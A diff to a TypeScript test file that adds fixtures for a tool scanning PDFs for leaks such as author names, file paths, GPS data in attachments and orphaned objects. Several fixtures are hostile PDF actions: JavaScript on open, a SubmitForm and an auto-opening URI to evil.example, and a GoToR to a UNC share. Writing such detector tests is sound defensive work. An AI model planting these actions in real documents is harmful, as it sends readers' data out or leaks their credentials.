@@ -68,6 +68,46 @@ const TELLING: readonly (readonly [string, Uint8Array])[] = [
     "TEL805 Encrypt Standard",
     quietPdf({ trailer: "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(x)/U(x)>>" }),
   ],
+  ["TEL103 Alt /home/mina/tea.jpg in object 9", add("<</Alt(/home/mina/tea.jpg)>>")],
+  [
+    "TEL301 JavaScript steep()",
+    quietPdf({ catalog: "/OpenAction<</S/JavaScript/JS(steep())/P 3 0 R>>" }),
+  ],
+  [
+    "TEL202 SubmitForm https://evil.example/",
+    add("<</S/SubmitForm/P 3 0 R/F(https://evil.example/)>>"),
+  ],
+  ["TEL301 JS steep() in object 9", add("<</S/Rendition/JS(steep())>>")],
+  [
+    "TEL201 URI that opens by itself https://evil.example/",
+    quietPdf({
+      catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example/)>>]>>",
+    }),
+  ],
+  [
+    "TEL201 GoToR that opens by itself \\\\kettle\\tea",
+    quietPdf({ catalog: `/OpenAction<</S/GoToR/F(${SHARE})>>` }),
+  ],
+  ["TEL204 file \\\\kettle\\tea in object 9", add(`<</Type/Filespec/F(${SHARE})>>`)],
+  [
+    "TEL702 Thumb of a page in object 3",
+    quietPdf({ page: "/Thumb 9 0 R", objects: { 9: packStream("", "tea") } }),
+  ],
+  ["TEL101 Info:Author Mina in object 9", add("<</Producer(x)/Author(Mina)>>")],
+  ["TEL853 field name Mina in object 9", add("<</FT/Tx/T(name)/V[(Mina)]>>")],
+  ["TEL853 field name Mina in object 9", add("<</FT/Tx/T(name)/DV(Mina)>>")],
+  ["TEL851 Link Mina in page 1", quietPdf({ page: "/Annots[<</Subtype/Link/T(Mina)>>]" })],
+  [
+    "TEL804 layer Answers",
+    quietPdf({
+      catalog: "/OCProperties<</OCGs[9 0 R]/D<</BaseState/OFF>>>>",
+      objects: { 9: "<</Type/OCG/Name(Answers)>>" },
+    }),
+  ],
+  [
+    "TEL705 XMP cannot be read in object 3",
+    quietPdf({ page: "/Metadata 9 0 R", objects: { 9: packStream("", "tea") } }),
+  ],
 ];
 
 for (const [line, file] of TELLING)
@@ -86,7 +126,9 @@ test("texts that are shown may name folders, and lines of a stream are no commen
   const told = tell(
     quietPdf({
       content: "%/home/mina/x\nBT /F 12 Tf 72 700 Td (Water) Tj ET",
-      objects: { 9: "<</Title(Open /home/amnesia/Persistent)/Alt(/home/amnesia/)/T(/home/x/)>>" },
+      objects: {
+        9: "<</Title(Open /home/amnesia/Persistent)/ActualText(/home/amnesia/)/T(/home/x/)>>",
+      },
     }),
   );
   assert.deepEqual(
@@ -105,6 +147,17 @@ test("an attached file is looked into, and one attached to that", async () => {
     });
   const told = tell(attach(attach(await takePhoto())));
   assert.ok(told.includes("TEL001 GPS 52.1, 4.3 in a/a"), told.join("\n"));
+});
+
+test("what nothing refers to is found: an object in no table, a file attached to none", async () => {
+  const lost = "77 0 obj\n<</Producer(x)/Author(Mina)>>\nendobj\nstartxref";
+  const text = Buffer.from(quietPdf()).toString("latin1").replace("startxref", lost);
+  const told = tell(Buffer.from(text, "latin1"));
+  const line = "TEL101 Info:Author Mina in object 77, which nothing refers to";
+  assert.ok(told.includes(line), told.join("\n"));
+  const photo = packStream("/Type/EmbeddedFile", await takePhoto());
+  const orphan = tell(quietPdf({ objects: { 9: photo } }));
+  assert.ok(orphan.includes("TEL001 GPS 52.1, 4.3 in object 9"), orphan.join("\n"));
 });
 
 test("a file attached to itself, and a thousand within each other, come to an end", () => {
